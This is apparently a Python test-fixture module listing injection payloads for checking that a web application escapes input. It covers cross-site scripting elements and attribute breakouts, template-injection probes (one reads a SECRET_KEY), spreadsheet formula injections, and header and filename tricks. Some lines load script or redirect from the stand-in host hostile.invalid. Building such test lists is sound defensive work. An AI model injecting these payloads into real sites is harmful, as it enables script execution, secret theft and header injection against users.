"""What somebody types who wants to break out of a page, a template, a spreadsheet or a header. Markup bears
``data-hostile`` or sets ``hostile``, so that a page on which it took effect can be told from one that shows it."""

from __future__ import annotations

ELEMENTS = (
    "<script data-hostile>hostile=1</script>",
    "<ScRiPt data-hostile>hostile=1</sCrIpT>",
    "<script data-hostile src=//hostile.invalid/x.js></script>",
    "<<script data-hostile>hostile=1//<</script>",
    "<scr<script data-hostile>ipt>hostile=1</scr</script>ipt>",
    "<img data-hostile src=x onerror=hostile=1>",
    "<img data-hostile src=`x` onerror=`hostile=1`>",
    '<IMG DATA-HOSTILE SRC="jav&#x09;ascript:hostile=1;">',
    "<svg data-hostile onload=hostile=1>",
    "<svg><script data-hostile>hostile&#61;1</script></svg>",
    "<svg><animate data-hostile onbegin=hostile=1 attributeName=x dur=1s>",
    "<math data-hostile><mtext><img src=x onerror=hostile=1></mtext></math>",
    "<body data-hostile onload=hostile=1>",
    "<iframe data-hostile srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "<iframe data-hostile src=javascript:parent.hostile=1></iframe>",
    "<object data-hostile data=data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4=></object>",
    "<embed data-hostile src=//hostile.invalid/x.swf>",
    "<a data-hostile href=javascript:hostile=1>klik</a>",
    "<form data-hostile action=//hostile.invalid/><button>Kirim</button></form>",
    "<input data-hostile autofocus onfocus=hostile=1>",
    "<details data-hostile open ontoggle=hostile=1>",
    "<video data-hostile><source onerror=hostile=1></video>",
    "<marquee data-hostile onstart=hostile=1>",
    "<style data-hostile>*{background:url(//hostile.invalid/x)}</style>",
    "<link data-hostile rel=stylesheet href=//hostile.invalid/x.css>",
    "<meta data-hostile http-equiv=refresh content='0;url=//hostile.invalid/'>",
    "<base data-hostile href=//hostile.invalid/>",
    "<template data-hostile><script>hostile=1</script></template>",
    "<x-hostile data-hostile style=animation-name:x onanimationstart=hostile=1>",
    "<div data-hostile style=position:fixed;inset:0>",
)
BREAKOUTS = (
    '" data-hostile autofocus onfocus=hostile=1 x="',
    "' data-hostile autofocus onfocus=hostile=1 x='",
    '"><img data-hostile src=x onerror=hostile=1>',
    "'><img data-hostile src=x onerror=hostile=1>",
    "</textarea><img data-hostile src=x onerror=hostile=1>",
    "</title><img data-hostile src=x onerror=hostile=1>",
    "</script><img data-hostile src=x onerror=hostile=1>",
    "</style><img data-hostile src=x onerror=hostile=1>",
    "</option></select><img data-hostile src=x onerror=hostile=1>",
    "--><img data-hostile src=x onerror=hostile=1>",
    "]]><img data-hostile src=x onerror=hostile=1>",
    "&lt;img data-hostile src=x onerror=hostile=1&gt;",
    "&#60;img data-hostile src=x onerror=hostile=1&#62;",
    "＜img data-hostile src=x onerror=hostile=1＞",
    "+ADw-img data-hostile src=x onerror=hostile=1+AD4-",
    "javascript:hostile=1//",
    '\\"-hostile=1-\\"',
    "';hostile=1;//",
)
TEMPLATES = (
    "{{ 79197919|add:1 }}",
    "{% debug %}",
    "{% include 'admin/case.html' %}",
    "{{ settings.SECRET_KEY }}",
    "${79197919+1}",
    "#{79197919+1}",
    "%(story)s %s %d {0} {story}",
)
CELLS = ("=79197919+1", "+79197919+1", "-79197919+1", "@SUM(79197919,1)")
HEADERS = ("x.jpg\r\nSet-Cookie: hostile=1", "x.jpg\"; filename*=UTF-8''hostile.html", "\u202egpj.\u200bhostile")

PAYLOADS = (*ELEMENTS, *BREAKOUTS, *TEMPLATES, *CELLS, *HEADERS)
